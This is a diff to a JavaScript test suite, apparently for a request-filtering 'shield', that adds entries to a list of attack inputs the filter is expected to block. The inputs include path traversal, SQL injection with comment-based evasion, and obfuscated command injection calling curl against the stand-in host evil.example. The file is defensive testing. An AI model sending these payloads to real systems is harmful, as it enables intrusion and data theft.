@@ -49,6 +49,11 @@ describe("the shield", () => {
       ["/guarded/x", "file=..%2F..%2Fetc%2Fpasswd", "application/x-www-form-urlencoded"],
       ["/guarded/x", "$(curl -s evil.example)", "text/plain"],
       ["/guarded/x", "`/usr/bin/curl -s evil.example`", "text/plain"],
+      ["/guarded/x", JSON.stringify({ id: "1 /*!50000UNION*/ /*!50000SELECT*/ password FROM users" })],
+      ["/guarded/x", JSON.stringify({ host: "example.org; c''at /etc/host''name" })],
+      ["/guarded/x", JSON.stringify({ host: "$(c\\url -s evil.example)" })],
+      ["/guarded/x", JSON.stringify({ file: "..;/..;/manager/html" })],
+      ["/guarded/x", JSON.stringify({ id: "1)) or ((1=1" })],
       ["/guarded/search?host=example.org%20%26%26%20/usr/bin/id", undefined],
     ];
     for (const [path, body, type] of attacks) {
